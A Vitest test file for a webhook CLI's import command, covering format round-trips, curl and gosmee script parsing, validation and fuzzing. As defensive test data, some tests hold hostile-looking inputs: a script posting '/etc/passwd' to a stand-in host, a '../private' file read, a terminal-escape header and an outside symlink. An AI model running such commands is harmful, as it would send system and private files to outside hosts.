import { mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { damaged } from '../helpers/damaged.ts'
import type { Bench } from '../helpers/cli.ts'
import { createBench } from '../helpers/cli.ts'
import { exchange } from '../helpers/raw-http.ts'

let bench: Bench
beforeEach(() => {
  bench = createBench()
})
afterEach(() => bench.remove())

/** Captures by the real way in: a listener, a socket, the store. */
async function capture(...messages: readonly string[]): Promise<void> {
  const session = bench.start(['listen', '--port', '0', '--json'])
  const text = await session.stdout.until(/"type":"ready"/)
  for (const message of messages) await exchange(Number(/:(\d+)\//.exec(text)?.[1]), message)
  session.interrupt()
  await session.status
}

const MESSAGES = [
  'POST /a?x=%20#y HTTP/1.1\r\nHost: evil.test\r\nX-A: 1\r\nx-a: caf\xe9\r\nX-a:\r\nAuthorization: Bearer s\r\nContent-Length: 4\r\n\r\n\xff\x00\r\n',
  'PUT /b HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTrailer: X-Sum\r\n\r\n2\r\n{}\r\n0\r\nX-Sum: 1\r\nX-Sum: 2\r\n\r\n',
  'GET http://other.test/c HTTP/1.1\r\nHost: other.test\r\n\r\n',
]

/** All that was on the wire, of each request of a store. */
async function wire(...store: readonly string[]): Promise<object[]> {
  const { stdout } = await bench.run(['export', '--format', 'ndjson', '--show-secrets', ...store])
  return stdout
    .trim()
    .split('\n')
    .filter(Boolean)
    .map((line) => {
      const { receivedAt, method, target, httpVersion, remoteAddress, headers, trailers, body } = JSON.parse(
        line,
      ) as Record<string, unknown>
      return { receivedAt, method, target, httpVersion, remoteAddress, headers, trailers, body }
    })
}

const kept = async (): Promise<number> => (await wire()).length

describe('import', () => {
  test.each(['ndjson', 'json', 'har'])(
    'what was captured and exported as %s comes in as it was',
    async (format) => {
      await capture(...MESSAGES)
      const before = await wire()
      expect(before.length).toBe(MESSAGES.length)
      const { bytes } = await bench.run(['export', '--format', format, '--show-secrets'])
      writeFileSync(join(bench.home, 'all'), bytes)
      const { status, stderr } = await bench.run(['import', 'all', '--store', 'other.db'])
      expect({ status, stderr }).toEqual({ status: 0, stderr: 'imported 3 requests   3 unsigned\n' })
      expect(await wire('--store', 'other.db')).toEqual(before)
    },
  )

  test('a folder that was exported comes in whole', async () => {
    await capture(...MESSAGES)
    for (const format of ['har', 'json', 'curl', 'http'])
      await bench.run(['export', '--format', format, '--out', `out/${format}`])
    for (const format of ['har', 'json', 'curl', 'http']) {
      const { status, stderr } = await bench.run(['import', `out/${format}`, '--dry-run'])
      expect({ status, stderr }, format).toEqual({
        status: 0,
        stderr: '3 requests would be imported   3 unsigned\n',
      })
    }
  })

  test('what comes in is looked at as a capture is: who sent it, whether it is signed', async () => {
    const { stdout } = await bench.run(
      ['send', 'stripe', 'charge.succeeded', '--secret', 'env:S', '--dry-run', '--print', 'json'],
      { env: { S: 'whsec_0123456789abcdef' } },
    )
    const stdin = `${stdout}${stdout.replace('charge', 'chorge')}`
    const imported = await bench.run(['import', '-', '--json', '--secret', 'stripe=env:S'], {
      stdin,
      env: { S: 'whsec_0123456789abcdef' },
    })
    expect(imported.stderr).toBe('imported 2 requests   1 valid, 1 invalid\n')
    const lines = imported.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>)
    expect(lines[0]).toMatchObject({
      source: 'imported',
      provider: 'stripe',
      event: 'charge.succeeded',
      signature: { status: 'valid' },
    })
    expect(lines[1]).toMatchObject({ signature: { status: 'invalid' } })
    const { stdout: shown } = await bench.run(['show', String(lines[0]?.['id']), '--json'])
    expect(JSON.parse(shown)).toMatchObject({ source: 'imported', event: 'charge.succeeded' })
  })

  test('curl commands from a terminal, as they are pasted', async () => {
    const stdin = `$ curl -XPOST localhost:3000/hook \\\n  -H 'Content-Type: application/json' -d '{"a":"it'\\''s"}'\n`
    const { status, stdout } = await bench.run(['import', '-', '--json'], { stdin })
    expect(status).toBe(0)
    expect(JSON.parse(stdout)).toMatchObject({ method: 'POST', target: '/hook', body: { size: 12 } })
  })

  test("a file that a stranger's command names is read only where that is allowed", async () => {
    writeFileSync(join(bench.home, 'private'), 'SEKRIT')
    mkdirSync(join(bench.home, 'cmd'))
    writeFileSync(join(bench.home, 'cmd', 'beside'), 'beside')
    writeFileSync(
      join(bench.home, 'cmd', 'c.sh'),
      'curl --data-binary @beside a.test\ncurl -d @../private a.test\n',
    )
    const refused = await bench.run(['import', 'cmd/c.sh'])
    expect(refused.status).toBe(1)
    expect(refused.stderr).toContain(
      'c.sh, line 1: its body is in a file; --read-files reads what commands name',
    )
    expect(await kept()).toBe(0)
    expect((await bench.run(['import', 'cmd/c.sh', '--read-files'])).status).toBe(0)
    expect((await wire()).map((one) => (one as { body: { data: string } }).body.data)).toEqual([
      'beside',
      'SEKRIT',
    ])
  })

  test('the save directory of gosmee: headers of the script, the body as it came', async () => {
    const folder = join(bench.home, 'saved')
    mkdirSync(folder)
    const body = '{\n  "ref": "refs/heads/main"\n}\n'
    writeFileSync(join(folder, 'push-2026-01-31T12.00.05.123.json'), body)
    writeFileSync(
      join(folder, 'push-2026-01-31T12.00.05.123.sh'),
      [
        '#!/usr/bin/env bash',
        'set -euxfo pipefail',
        'cd $(dirname $(readlink -f $0))',
        'targetURL="http://localhost:8080/hooks"',
        'if [[ ${1:-""} == -l ]]; then',
        '\ttargetURL="http://localhost:8080"',
        'elif [[ -n ${1:-""} ]]; then',
        '\ttargetURL=${1}',
        'fi',
        '',
        `curl -sSi $curl_flags -H "Content-Type: application/json" -H 'X-Github-Event: push' -H 'X-Github-Delivery: 7-8'  -X POST -d @./push-2026-01-31T12.00.05.123.json \${targetURL}`,
        '',
      ].join('\n'),
    )
    const { status, stdout, stderr } = await bench.run(['import', 'saved', '--json'])
    expect(status, stderr).toBe(0)
    expect(JSON.parse(stdout)).toMatchObject({
      provider: 'github',
      event: 'push',
      receivedAt: '2026-01-31T12:00:05.123Z',
    })
    expect(await wire()).toMatchObject([
      {
        method: 'POST',
        target: '/hooks',
        headers: [
          ['Host', 'localhost:8080'],
          ['Accept', '*/*'],
          ['Content-Type', 'application/json'],
          ['X-Github-Event', 'push'],
          ['X-Github-Delivery', '7-8'],
          ['Content-Length', String(body.length)],
        ],
        body: { data: body },
      },
    ])
  })
})

test("of gosmee's scripts, too, only what could come over the wire is taken", async () => {
  const folder = join(bench.home, 'saved')
  mkdirSync(folder)
  writeFileSync(join(folder, 'a.json'), '{}')
  writeFileSync(join(folder, 'a.sh'), `curl -H $'X-A: \\x1b[2J' -d @./a.json http://a.test`)
  writeFileSync(join(folder, 'b.json'), 'x'.repeat(2000))
  writeFileSync(join(folder, 'b.sh'), 'curl -d @/etc/passwd http://a.test')
  writeFileSync(join(folder, 'c.json'), '{}')
  writeFileSync(join(folder, 'c.sh'), 'touch marker')
  const { status, stderr } = await bench.run(['import', 'saved', '--max-body', '1kb'])
  expect(status).toBe(1)
  expect(stderr.split('\n').slice(0, 4)).toEqual([
    'error: 3 of 3 entries cannot be imported; nothing was',
    '  a.sh: headers[2]: expected a header name and value as they can be sent',
    '  b.sh: its body is over 1024 bytes (--max-body)',
    '  c.sh: its script runs no curl',
  ])
})

describe('all or nothing', () => {
  const line = (target: string): string =>
    JSON.stringify({
      v: 1,
      type: 'request',
      receivedAt: '2026-01-31T12:00:00.000Z',
      method: 'POST',
      target,
      httpVersion: '1.1',
      headers: [],
      body: { size: 0, encoding: 'utf8', data: '' },
    })
  const MIXED = [line('/1'), '{"v":1,"type":"request"}', line('/2'), line('/a b')].join('\n')

  test('one wrong entry, and none is kept; each is told with its place', async () => {
    writeFileSync(join(bench.home, 'good'), line('/0'))
    writeFileSync(join(bench.home, 'mixed'), MIXED)
    const { status, stdout, stderr } = await bench.run(['import', 'good', 'mixed'])
    expect({ status, stdout, stderr }).toEqual({
      status: 1,
      stdout: '',
      stderr: [
        'error: 2 of 5 entries cannot be imported; nothing was',
        '  mixed, line 2: receivedAt: expected a time like 2025-12-22T14:02:15.482Z',
        '  mixed, line 4: target: expected a request-target without spaces',
        '  $ webhook-cli import --skip-invalid …   the others',
        '',
      ].join('\n'),
    })
    expect(await kept()).toBe(0)
  })

  test('--skip-invalid takes the others', async () => {
    const { status, stderr } = await bench.run(['import', '-', '--skip-invalid'], { stdin: MIXED })
    expect(status).toBe(0)
    expect(stderr.split('\n').filter((text) => text.startsWith('skipped:')).length).toBe(2)
    expect(stderr).toContain('imported 2 requests   2 unsigned   2 skipped\n')
    expect(await kept()).toBe(2)
  })

  test.each([[], ['--dry-run']])(
    '--skip-invalid where there are no others ends with 1 %j',
    async (...more) => {
      const stdin = '{"v":1,"type":"request"}'
      const { status, stderr } = await bench.run(['import', '-', '--skip-invalid', ...more], { stdin })
      expect(status).toBe(1)
      expect(stderr).toMatch(/^skipped: [^]*\b0 requests\b.* 1 skipped\n$/)
    },
  )

  test('--dry-run keeps nothing', async () => {
    const { stderr, stdout } = await bench.run(['import', '-', '--dry-run', '--json'], { stdin: line('/1') })
    expect(stderr).toBe('1 request would be imported   1 unsigned\n')
    expect(JSON.parse(stdout)).not.toHaveProperty('id')
    expect(await kept()).toBe(0)
  })

  test('more than the store keeps is refused, not dropped', async () => {
    const { status, stderr } = await bench.run(['import', '-'], {
      stdin: [line('/1'), line('/2'), line('/3')].join('\n'),
      env: { WEBHOOK_CLI_KEEP: '2' },
    })
    expect(status).toBe(2)
    expect(stderr).toContain('3 requests would come in, and the store keeps the newest 2')
    expect(await kept()).toBe(0)
  })

  test('requests and a secret cannot both be piped in', async () => {
    const { status, stderr } = await bench.run(['import', '-', '--secret', 'stripe=-'], { stdin: line('/1') })
    expect({ status, stderr: stderr.split('\n')[0] }).toEqual({
      status: 2,
      stderr: 'error: the requests and the secret cannot both come from stdin',
    })
  })

  test('two thousand come in in the order of the file', async () => {
    const stdin = Array.from({ length: 2000 }, (_, at) => line(`/${at}`)).join('\n')
    expect((await bench.run(['import', '-', '--quiet'], { stdin })).stdout).toBe('')
    expect((await wire()).map((one) => (one as { target: string }).target)).toEqual(
      Array.from({ length: 2000 }, (_, at) => `/${at}`),
    )
  })

  test('Ctrl-C stops between batches and tells how many came in', async () => {
    const stdin = Array.from({ length: 2000 }, (_, at) => line(`/${at}`)).join('\n')
    const session = bench.start(['import', '-'], { stdin })
    await session.stdout.until(/\n/)
    session.interrupt()
    expect(await session.status).toBe(130)
    const [, came] = /^imported (\d+) of 2000 requests, then stopped/.exec(session.stderr.text()) ?? []
    expect(await kept()).toBe(Number(came))
    expect(Number(came)).toBeLessThan(2000)
  })

  test.each([
    ['README.md', '# webhook-cli\n\nA tool that captures.\n', 'it begins with "# webhook-cli"'],
    ['t.csv', 'id,method\n1,POST\n', 'it begins with "id,method"'],
    ['page.html', '<!doctype html>\n<p>curled</p>\n', 'it begins with "<!doctype html>"'],
    ['image', Buffer.from('89504e470d0a1a0a0000', 'hex'), 'it is no text'],
  ])('%s is no file of requests: what was seen is told, nothing is kept', async (name, content, seen) => {
    writeFileSync(join(bench.home, name), content)
    expect(await bench.run(['import', name])).toMatchObject({
      status: 1,
      stdout: '',
      stderr: [
        'error: nothing was imported',
        `  ${name}: it holds no request; ${seen}`,
        '  $ webhook-cli import --help   what is understood',
        '',
      ].join('\n'),
    })
    expect(await kept()).toBe(0)
  })

  test('a HAR that ends in its midst is told', async () => {
    writeFileSync(join(bench.home, 'cut.har'), '{"log":{"entries":[{"startedDateTime":"2026')
    const { status, stderr } = await bench.run(['import', 'cut.har'])
    expect({ status, first: stderr.split('\n')[1] }).toMatchObject({
      status: 1,
      first: expect.stringContaining('cut.har: it is not JSON: '),
    })
  })

  test('a folder with no file of requests is told by import as by replay', async () => {
    mkdirSync(join(bench.home, 'bare'))
    writeFileSync(join(bench.home, 'bare', 'notes.txt'), 'POST / HTTP/1.1')
    for (const words of [
      ['import', 'bare'],
      ['replay', './bare'],
    ]) {
      const { status, stderr } = await bench.run(words)
      expect({ status, first: stderr.split('\n')[0] }, words[0]).toEqual({
        status: 2,
        first: 'error: there is no request in the folder bare',
      })
    }
  })

  test('a file that is not there, or has no end, is told', async () => {
    const missing = await bench.run(['import', 'nope'])
    expect({
      status: missing.status,
      found: missing.stderr.includes('cannot read ~/nope (no such file or folder)'),
    }).toEqual({ status: 1, found: true })
  })

  test.each([100, 60])('a table on a terminal of %i columns, nothing wider', async (columns) => {
    const { stdout, stderr } = await bench.run(['import', '-'], {
      columns,
      stdin: line('/hooks'),
      env: { NO_COLOR: '1' },
    })
    expect(stdout).toContain('/hooks')
    expect(stderr).toBe('imported 1 request   1 unsigned\n')
    for (const text of stdout.split('\n')) expect(text.length).toBeLessThanOrEqual(columns)
    const again = await bench.run(['import', '-'], { columns, stdin: line('/hooks') })
    const between = columns === 60 ? '\n' : '   '
    expect(again.stderr).toBe(`imported 0 requests${between}1 there already (--again takes them in too)\n`)
  })

  test('links within a folder are left alone', async () => {
    mkdirSync(join(bench.home, 'in'))
    writeFileSync(join(bench.home, 'secret.json'), line('/secret'))
    symlinkSync(join(bench.home, 'secret.json'), join(bench.home, 'in', 'link.json'))
    writeFileSync(join(bench.home, 'in', 'one.ndjson'), line('/one'))
    await bench.run(['import', 'in'])
    expect((await wire()).map((one) => (one as { target: string }).target)).toEqual(['/one'])
  })
})

describe('imported again', () => {
  const line = (ms: string, body = ''): string =>
    JSON.stringify({
      v: 1,
      type: 'request',
      receivedAt: `2026-01-31T12:00:00.${ms}Z`,
      method: 'POST',
      target: '/hook',
      httpVersion: '1.1',
      headers: [['Webhook-Id', 'msg_1']],
      body: { size: body.length, encoding: 'utf8', data: body },
    })
  const importing = async (lines: readonly string[], ...flags: string[]): Promise<string> =>
    (await bench.run(['import', '-', ...flags], { stdin: lines.join('\n') })).stderr

  test('what an earlier import brought is left out and told; --again takes it', async () => {
    const lines = [line('001'), line('002')]
    expect(await importing(lines)).toBe('imported 2 requests   2 unsigned\n')
    expect(await importing(lines)).toBe('imported 0 requests   2 there already (--again takes them in too)\n')
    expect(await importing([...lines, line('003')])).toBe(
      'imported 1 request   1 unsigned   2 there already (--again takes them in too)\n',
    )
    expect(await kept()).toBe(3)
    expect(await importing(lines, '--again')).toBe('imported 2 requests   2 unsigned\n')
    expect(await kept()).toBe(5)
  })

  test('a dry run tells the same, and changes nothing', async () => {
    await importing([line('001')])
    expect(await importing([line('001'), line('002')], '--dry-run')).toBe(
      '1 request would be imported   1 unsigned   1 there already (--again takes them in too)\n',
    )
    expect(await kept()).toBe(1)
  })

  test('requests that merely look alike stay as many as they are', async () => {
    const twins = [line('001'), line('001')]
    expect(await importing(twins)).toBe('imported 2 requests   2 unsigned\n')
    expect(await importing([...twins, line('001')])).toBe(
      'imported 1 request   1 unsigned   2 there already (--again takes them in too)\n',
    )
    // A body, a time: any difference is another request.
    expect(await importing([line('001', 'x'), line('004')])).toBe('imported 2 requests   2 unsigned\n')
  })

  test('what was captured here is no import: its export comes in beside it', async () => {
    await capture(...MESSAGES)
    const { stdout } = await bench.run(['export', '--show-secrets'])
    expect(await importing([stdout])).toBe('imported 3 requests   3 unsigned\n')
    expect(await importing([stdout])).toContain('imported 0 requests   3 there already')
  })
})

/** SQLite's own files come and go. */
function filesBesideStore(): string[] {
  return readdirSync(bench.home, { recursive: true, encoding: 'utf8' })
    .filter((name) => !name.includes('requests.db-'))
    .toSorted()
}

describe('R-EXP-4', () => {
  test('500 damaged files: no crash, nothing written but the store, and only what could come over the wire', async () => {
    await capture(...MESSAGES)
    const documents = await Promise.all(
      ['ndjson', 'json', 'har'].map(
        async (format) => (await bench.run(['export', '--format', format, '--show-secrets'])).bytes,
      ),
    )
    const before = filesBesideStore()
    const counts = { taken: 0, refused: 0 }
    for (const stdin of damaged(documents, 500)) {
      const { status, stdout, stderr } = await bench.run(
        ['import', '-', '--skip-invalid', '--json', '--store', ':memory:'],
        { stdin },
      )
      expect([0, 1], stderr).toContain(status)
      // oxlint-disable-next-line no-control-regex -- what must not reach a terminal
      expect(stderr).not.toMatch(/[\0-\x09\x0b-\x1f\x7f-\x9f]/)
      for (const line of stdout.split('\n').filter(Boolean)) {
        const { method, target } = JSON.parse(line) as Record<string, string>
        expect(method).toMatch(/^[!#$%&'*+.^_`|~0-9A-Za-z-]+$/)
        expect(target).toMatch(/^[\x21-\x7e]+$/)
        counts.taken += 1
      }
      if (stderr.includes('skipped:')) counts.refused += 1
    }
    expect(filesBesideStore()).toEqual(before)
    expect(counts.taken).toBeGreaterThan(50)
    expect(counts.refused).toBeGreaterThan(250)
    console.log(
      `R-EXP-4: 500 damaged files, ${counts.refused} with entries refused, ${counts.taken} requests taken; 0 crashes, 0 files outside the store`,
    )
  }, 120_000)
})
